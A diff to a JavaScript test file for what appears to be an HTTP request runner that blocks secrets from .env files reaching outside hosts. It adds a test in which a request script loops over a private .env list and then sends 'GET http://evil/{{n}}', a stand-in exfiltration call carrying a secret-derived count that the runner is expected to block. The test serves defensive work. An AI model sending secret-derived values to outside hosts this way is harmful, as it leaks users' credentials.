@@ -40,8 +40,16 @@ describe('what a script has read', () => {
     const { lines, outcomes, answers } = await send(text);
     expect(lines).toEqual(['GET http://own/1']);
     // Who looks at the names has read what they are made of.
-    expect(answers.kept.get('seen')?.uses).not.toEqual([]);
+    expect(answers.kept.get('seen')?.uses.length).toBeGreaterThan(0);
+    expect(problemsOf(outcomes)[1]).toContain('what is in .env may not go to http://evil');
     expect(JSON.stringify(outcomes[1]?.log)).not.toContain('leak_');
+  });
+
+  it('is not shown by how often a script runs for a private list', async () => {
+    const text = `@LST = {{$dotenv LST}}\n\n# @loop for item of LST\n< {% client.global.set("n", request.iteration()) %}\nGET http://own/1\n\n###\nGET http://evil/{{n}}\n`;
+    const { lines, outcomes } = await send(text, { dotenv: { LST: '["a","b"]' } });
+    expect(lines).toEqual(['GET http://own/1', 'GET http://own/1']);
+    expect(problemsOf(outcomes).at(-1)).toContain('(what is in .env) may not go to http://evil');
   });
 
   it('is not shown by what is cleared', async () => {
